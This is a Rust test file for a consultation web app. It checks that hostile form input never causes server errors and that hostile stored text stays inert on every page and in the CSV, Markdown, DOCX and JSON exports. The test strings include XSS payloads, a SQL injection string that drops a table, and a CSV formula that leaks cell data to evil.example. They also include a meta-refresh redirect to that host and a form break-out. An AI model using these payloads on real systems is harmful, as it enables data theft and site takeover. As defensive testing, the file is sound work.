//! Router tests: hostile input: every form field given what people and scripts send, and hostile text stored in every displayed field, rendered on every page and parsed back from every export.

use crate::support::{DEMO_PASSWORD, demo_router_and_db, form_post, session_of};
use app::backend::sessions;
use app::domain::desk::DispositionKind;
use axum::body::Body;
use axum::http::{HeaderValue, StatusCode, header};
use http_body_util::BodyExt;
use tower::ServiceExt;

/// Every server function, with ordinary values for its fields (demo data), as the
/// hostile-input test sends them; list fields end in `[]`.
const FUNCTIONS: &[(&str, &[(&str, &str)])] = &[
    (
        "register",
        &[
            ("email", "new@example.org"),
            ("password", "a long enough pass phrase"),
            ("display_name", "New Person"),
            ("stakeholder_group", "civil_society"),
            ("country", "SN"),
            ("organisation", "ENDA"),
            ("capacity", "organisation"),
        ],
    ),
    (
        "sign_in",
        &[
            ("email", "civil@demo.consult.example"),
            ("password", DEMO_PASSWORD),
        ],
    ),
    (
        "update_profile",
        &[
            ("display_name", "Admin"),
            ("stakeholder_group", "intergovernmental"),
            ("country", "CH"),
            ("organisation", "UN"),
            ("capacity", "organisation"),
        ],
    ),
    (
        "paper_comments",
        &[
            ("slug", "wgig-2005-february"),
            ("code", "WP-ROOT"),
            ("p", "1.1"),
            ("group", "government"),
            ("region", "africa"),
            ("tag", "privacy"),
            ("after", "1"),
        ],
    ),
    ("published_comment", &[("id", "1")]),
    (
        "search_comments",
        &[
            ("q", "root zone"),
            ("group", ""),
            ("region", ""),
            ("tag", ""),
            ("before", "100"),
        ],
    ),
    (
        "submit_comment",
        &[
            ("slug", "wgig-2005-february"),
            ("code", "WP-ROOT"),
            ("paragraph", "1.1"),
            ("quote", ""),
            (
                "body",
                "The root zone should be overseen by all stakeholders together.",
            ),
            ("tags[]", "privacy"),
            ("consent", "anonymous"),
            ("language", "fr"),
            ("reply_to", "1"),
        ],
    ),
    ("my_comments", &[("before", "100")]),
    ("my_comment", &[("id", "1")]),
    (
        "edit_comment",
        &[
            ("id", "1"),
            ("paragraph", "1.1"),
            ("quote", ""),
            (
                "body",
                "A changed comment on the oversight of the root zone.",
            ),
            ("tags[]", "privacy"),
            ("consent", "anonymous"),
            ("language", "fr"),
        ],
    ),
    ("withdraw_comment", &[("id", "2")]),
    ("consultation", &[("slug", "wgig-2005-february")]),
    (
        "paper",
        &[("slug", "wgig-2005-february"), ("code", "WP-ROOT")],
    ),
    (
        "desk_queue",
        &[
            ("consultation", "wgig-2005-february"),
            ("paper", "WP-ROOT"),
            ("group", "government"),
            ("tag", "privacy"),
            ("flagged", "1"),
            ("q", "root"),
            ("after", "1"),
        ],
    ),
    ("desk_item", &[("id", "1")]),
    (
        "load_themes",
        &[
            ("slug", "wgig-2005-february"),
            ("code", "WP-ROOT"),
            ("paragraph", "2.1"),
        ],
    ),
    (
        "run_themes",
        &[
            ("slug", "wgig-2005-february"),
            ("code", "WP-ROOT"),
            ("paragraph", ""),
            ("internal", "1"),
        ],
    ),
    (
        "edit_themes",
        &[
            ("slug", "wgig-2005-february"),
            ("code", "WP-ROOT"),
            ("paragraph", ""),
            ("action", "rename"),
            ("theme", "1"),
            ("label", "Root zone oversight"),
            ("into", "2"),
            ("reference", "C-2026-000001"),
        ],
    ),
    (
        "decide_comments",
        &[
            ("ids[]", "3"),
            ("decision_code", "reject"),
            ("reason", "off_topic"),
            ("other_reason", ""),
            ("back", "/desk"),
        ],
    ),
    (
        "decide_campaign",
        &[
            ("campaign", "1"),
            ("decision_code", "publish"),
            ("reason", ""),
            ("other_reason", ""),
            ("back", "/desk"),
        ],
    ),
    (
        "resolve_comment",
        &[
            ("id", "1"),
            ("action", "keep"),
            ("reason", ""),
            ("other_reason", ""),
            ("back", "/desk"),
        ],
    ),
    (
        "retag_comment",
        &[("id", "1"), ("tags[]", "privacy"), ("back", "/desk")],
    ),
    (
        "set_disposition",
        &[
            ("id", "1"),
            ("kind", "noted"),
            ("response", "Thank you."),
            ("changed", ""),
            ("back", "/desk"),
        ],
    ),
    ("add_rejection_reason", &[("text", "Advertising")]),
    ("audit_log", &[("reference", "WP-ROOT"), ("before", "100")]),
    (
        "flag_comment",
        &[
            ("id", "1"),
            ("reason", "spam"),
            ("note", "A note."),
            ("back", "/"),
        ],
    ),
    ("list_accounts", &[("q", "demo"), ("after", "1")]),
    (
        "change_account",
        &[
            ("id", "2"),
            ("action", "suspend"),
            ("back", "/admin/accounts"),
        ],
    ),
    (
        "load_digest",
        &[
            ("slug", "wgig-2005-february"),
            ("paper", "WP-ROOT"),
            ("status", "published"),
            ("group", "government"),
            ("region", "africa"),
            ("tag", "privacy"),
            ("from", "2005-01-01"),
            ("to", "2005-12-31"),
        ],
    ),
    (
        "set_digest_public",
        &[("slug", "wgig-2005-february"), ("public", "true")],
    ),
    ("digest_is_public", &[("slug", "wgig-2005-february")]),
    ("editor_consultation", &[("slug", "wgig-2005-february")]),
    (
        "save_consultation",
        &[
            ("original", ""),
            ("slug", "a-new-one"),
            ("title", "A new consultation"),
            ("description", "About it."),
            ("status", "draft"),
            ("opens_at", "2005-01-01T00:00"),
            ("closes_at", "2099-01-01T00:00"),
        ],
    ),
    (
        "preview_paper",
        &[
            ("slug", "wgig-2005-february"),
            ("code", "WP-ROOT"),
            ("markdown", "## A heading\n\nA paragraph."),
        ],
    ),
    (
        "save_paper",
        &[
            ("slug", "wgig-2005-february"),
            ("code", "WP-NEW"),
            ("title", "A new paper"),
            ("abstract_text", "About it."),
            ("cluster", "development"),
            ("markdown", "## A heading\n\nA paragraph."),
        ],
    ),
    (
        "save_translation",
        &[
            ("slug", "wgig-2005-february"),
            ("code", "WP-ROOT"),
            ("language", "fr"),
            ("title", "Un document"),
            ("abstract_text", "Résumé."),
            ("markdown", "## Un titre\n\nUn paragraphe."),
        ],
    ),
];

/// What people and scripts put in forms: nothing, far too much, control characters,
/// mixed scripts and right-to-left marks, markup, query syntax, numbers out of range.
fn hostile() -> Vec<String> {
    vec![
        String::new(),
        " \t\n ".to_owned(),
        "x".repeat(100_000),
        "ok\u{0}\u{1}\u{7}\u{1b}[31m\u{7f}".to_owned(),
        "\u{202e}Ελληνικά العربية 中文 हिन्दी Русский 🙂\u{200d}\u{fe0f}".to_owned(),
        "<script>alert(1)</script><img src=x onerror=alert(2)>".to_owned(),
        "' OR 1=1; DROP TABLE comments; --".to_owned(),
        "-1".to_owned(),
        "99999999999999999999999".to_owned(),
        "\u{fffd}\u{d7ff}\u{10ffff}".to_owned(),
    ]
}

fn encode(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

#[tokio::test]
async fn every_form_field_given_hostile_input_answers_with_a_message_never_a_500() {
    let (router, db) = demo_router_and_db().await;
    let admin = session_of(&db, "admin@example.org", app::domain::Role::Admin).await;
    let mut failures = Vec::new();
    let mut calls = 0;
    for (function, fields) in FUNCTIONS {
        for (field, _) in fields.iter() {
            for value in hostile() {
                let body = fields
                    .iter()
                    .map(|(name, ordinary)| {
                        let value = if name == field {
                            value.as_str()
                        } else {
                            ordinary
                        };
                        format!("{}={}", encode(name).replace("%5B%5D", "[]"), encode(value))
                    })
                    .collect::<Vec<_>>()
                    .join("&");
                let mut req = form_post(&format!("/api/{function}"), &body);
                req.headers_mut()
                    .insert(header::COOKIE, HeaderValue::from_str(&admin).unwrap());
                let res = router.clone().oneshot(req).await.unwrap();
                calls += 1;
                let status = res.status();
                let answer = res.into_body().collect().await.unwrap().to_bytes();
                if status.is_server_error() || (status.is_client_error() && answer.is_empty()) {
                    failures.push(format!(
                        "{function} {field}={:?}: {status} {}",
                        value.chars().take(40).collect::<String>(),
                        String::from_utf8_lossy(&answer[..answer.len().min(200)])
                    ));
                }
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {calls} calls failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
    // Routes outside the server functions too: a NUL in an address is refused.
    let res = router
        .clone()
        .oneshot(
            http::Request::get("/digests/wgig-2005-february/all.csv?tag=%00")
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::BAD_REQUEST);
    // And the site still answers.
    let res = router
        .oneshot(http::Request::get("/healthz").body(Body::empty()).unwrap())
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
}

/// Every payload of issue 17 in one value: a formula first (for the CSV), a form and a
/// title break-out, a Markdown link, a script and an image with a handler, an override.
const HOSTILE_TEXT: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\") </textarea></form><form action=\"/api/change_account\" method=\"post\"><button>x</button> T </title><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"> [x](javascript:alert(1)) <script>alert(1)</script><img src=x onerror=alert(2)> \u{202e}ecnarF";

/// The same attacks within 100 characters, for the fields a column bounds (names, tags,
/// titles): PostgreSQL refuses longer values there.
const SHORT_HOSTILE_TEXT: &str = "=A1 </title><meta http-equiv=\"refresh\" content=\"0;url=//e.x/\"><button>x</button> \u{202e}ecnarF";

/// Stores [`HOSTILE_TEXT`] in every field of user text the pages and exports show
/// ([`SHORT_HOSTILE_TEXT`] where the column is bounded), as
/// an older row or an import could hold it (the forms refuse some of it now).
async fn store_hostile_text(db: &sea_orm::DatabaseConnection) {
    use app::backend::entities::{
        comment, consultation, disposition, paper_version, paragraph, tag, user, working_paper,
    };
    use sea_orm::sea_query::Expr;
    use sea_orm::{ActiveModelTrait, ColumnTrait, EntityTrait, QueryFilter, Set};
    let h = || Expr::value(HOSTILE_TEXT.to_owned());
    let short = || Expr::value(SHORT_HOSTILE_TEXT.to_owned());
    comment::Entity::update_many()
        .col_expr(comment::Column::Body, h())
        .col_expr(comment::Column::Quote, h())
        .col_expr(comment::Column::AuthorName, short())
        .col_expr(comment::Column::AuthorOrganisation, short())
        .exec(db)
        .await
        .unwrap();
    user::Entity::update_many()
        .col_expr(user::Column::DisplayName, short())
        .col_expr(user::Column::Organisation, short())
        .exec(db)
        .await
        .unwrap();
    consultation::Entity::update_many()
        .col_expr(consultation::Column::Title, short())
        .col_expr(consultation::Column::Description, h())
        .exec(db)
        .await
        .unwrap();
    working_paper::Entity::update_many()
        .col_expr(working_paper::Column::Title, short())
        .col_expr(working_paper::Column::AbstractText, h())
        .exec(db)
        .await
        .unwrap();
    paper_version::Entity::update_many()
        .col_expr(paper_version::Column::Markdown, h())
        .exec(db)
        .await
        .unwrap();
    paragraph::Entity::update_many()
        .col_expr(paragraph::Column::Text, h())
        .exec(db)
        .await
        .unwrap();
    tag::Entity::update_many()
        .col_expr(tag::Column::Names, {
            // Every language's name hostile: the page shows its own.
            let names: std::collections::BTreeMap<&str, &str> = app::i18n::catalogue::CODES
                .iter()
                .map(|code| (*code, SHORT_HOSTILE_TEXT))
                .collect();
            Expr::value(serde_json::to_string(&names).unwrap())
        })
        .exec(db)
        .await
        .unwrap();
    disposition::Entity::delete_many()
        .filter(disposition::Column::CommentId.eq(1))
        .exec(db)
        .await
        .unwrap();
    disposition::ActiveModel {
        comment_id: Set(1),
        kind: Set(DispositionKind::Noted),
        response: Set(HOSTILE_TEXT.to_owned()),
        decided_by: Set(1),
        decided_at: Set(time::OffsetDateTime::now_utc()),
        changed_paragraph_id: Set(None),
    }
    .insert(db)
    .await
    .unwrap();
}

/// Checks a page holding [`HOSTILE_TEXT`] parses as the page made it: nothing
/// injected, every textarea holding exactly its text, names isolated from the app's
/// words after them.
fn assert_nothing_injected(uri: &str, page: &str) -> Vec<String> {
    use scraper::{Html, Selector};
    let doc = Html::parse_document(page);
    let count = |css: &str| doc.select(&Selector::parse(css).unwrap()).count();
    let mut problems = Vec::new();
    for css in [
        "meta[http-equiv=refresh]",
        "meta[http-equiv=Refresh]",
        "img[onerror]",
    ] {
        if count(css) > 0 {
            problems.push(format!("{uri}: {css} injected"));
        }
    }
    // The accounts page has its own forms to change accounts; elsewhere there are none.
    if uri != "/admin/accounts" && count("form[action=\"/api/change_account\"]") > 0 {
        problems.push(format!("{uri}: a form to change accounts injected"));
    }
    let buttons = Selector::parse("button").unwrap();
    if doc
        .select(&buttons)
        .any(|b| b.text().collect::<String>() == "x")
    {
        problems.push(format!("{uri}: the hostile text's button injected"));
    }
    if count("script") != count("script[nonce]") {
        problems.push(format!("{uri}: a script without the page's nonce"));
    }
    if count("head > title") != 1 {
        problems.push(format!("{uri}: {} titles", count("head > title")));
    }
    for field in doc.select(&Selector::parse("textarea").unwrap()) {
        let text: String = field.text().collect();
        if !text.is_empty() && text != HOSTILE_TEXT {
            problems.push(format!("{uri}: textarea holds {text:?}"));
        }
    }
    for bdi in doc.select(&Selector::parse(".attribution bdi").unwrap()) {
        if bdi.text().collect::<String>().contains('·') {
            problems.push(format!("{uri}: the app's words inside a <bdi>"));
        }
    }
    problems
}

#[tokio::test]
async fn hostile_text_in_every_displayed_field_stays_text_on_every_page_and_export() {
    let (router, db) = demo_router_and_db().await;
    let admin = session_of(&db, "admin@example.org", app::domain::Role::Admin).await;
    let author = {
        let signed_in = app::backend::accounts::sign_in(
            &db,
            app::backend::accounts::SignInAttempt {
                email: "civil@demo.consult.example",
                password: DEMO_PASSWORD,
                browser: None,
                address: "127.0.0.1",
            },
            |_| Ok(()),
        )
        .await
        .unwrap();
        format!("{}={}", sessions::SESSION_COOKIE, signed_in.session)
    };
    store_hostile_text(&db).await;
    let get = |uri: &str, cookie: &str| {
        http::Request::get(uri)
            .header(header::COOKIE, cookie)
            .body(Body::empty())
            .unwrap()
    };
    let slug = "wgig-2005-february";
    let mut problems = Vec::new();
    let mut textareas = 0;
    for (uri, cookie) in [
        (format!("/consultations/{slug}"), &admin),
        (format!("/consultations/{slug}/papers/WP-ROOT"), &admin),
        (
            format!("/consultations/{slug}/papers/WP-ROOT/comment"),
            &author,
        ),
        ("/my/comments".to_owned(), &author),
        ("/search?q=HYPERLINK".to_owned(), &admin),
        ("/desk".to_owned(), &admin),
        ("/desk/comments/1".to_owned(), &admin),
        ("/admin/accounts".to_owned(), &admin),
        ("/desk/consultations".to_owned(), &admin),
        (format!("/desk/consultations/{slug}"), &admin),
        (format!("/desk/consultations/{slug}/papers/WP-ROOT"), &admin),
        (format!("/digests/{slug}?status=all"), &admin),
    ] {
        let res = router.clone().oneshot(get(&uri, cookie)).await.unwrap();
        let status = res.status();
        let page = res.into_body().collect().await.unwrap().to_bytes();
        let page = String::from_utf8_lossy(&page);
        if status != StatusCode::OK {
            problems.push(format!("{uri}: {status}"));
        }
        textareas += page.matches("<textarea").count();
        problems.extend(assert_nothing_injected(&uri, &page));
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    assert!(
        textareas >= 4,
        "the editor's and the desk's textareas were rendered"
    );

    // The exports: the CSV parsed back has no cell that starts a formula, the Markdown
    // has no HTML and no link, the DOCX's XML is well-formed.
    let download = |ext: &'static str| {
        let router = router.clone();
        let request = get(&format!("/digests/{slug}/all.{ext}?status=all"), &admin);
        async move {
            let res = router.oneshot(request).await.unwrap();
            assert_eq!(res.status(), StatusCode::OK, "{ext}");
            res.into_body().collect().await.unwrap().to_bytes().to_vec()
        }
    };
    let csv = download("csv").await;
    let mut reader = csv::Reader::from_reader(&csv[3..]);
    let mut bodies = 0;
    for row in reader.records() {
        let row = row.unwrap();
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula: {cell:?}"
            );
        }
        bodies += usize::from(row.iter().any(|c| c == format!("'{HOSTILE_TEXT}")));
    }
    assert!(bodies > 0, "the hostile text is in the CSV, with its quote");
    let markdown = String::from_utf8(download("md").await).unwrap();
    for event in pulldown_cmark::Parser::new_ext(&markdown, pulldown_cmark::Options::ENABLE_TABLES)
    {
        use pulldown_cmark::{Event, Tag};
        assert!(
            !matches!(
                event,
                Event::Html(_)
                    | Event::InlineHtml(_)
                    | Event::Start(Tag::Link { .. } | Tag::Image { .. })
            ),
            "{event:?} in the Markdown digest"
        );
    }
    assert!(markdown.contains("HYPERLINK"));
    let docx = download("docx").await;
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(docx)).unwrap();
    let mut xml = String::new();
    std::io::Read::read_to_string(&mut archive.by_name("word/document.xml").unwrap(), &mut xml)
        .unwrap();
    let mut reader = quick_xml::Reader::from_str(&xml);
    loop {
        match reader.read_event() {
            Ok(quick_xml::events::Event::Eof) => break,
            Ok(_) => {}
            Err(e) => panic!("the DOCX's XML is not well-formed: {e}"),
        }
    }
    assert!(xml.contains("HYPERLINK") && !xml.contains("<script>"));
    let json: serde_json::Value = serde_json::from_slice(&download("json").await).unwrap();
    assert!(
        json.to_string().contains("HYPERLINK"),
        "JSON is data, kept as is"
    );
}
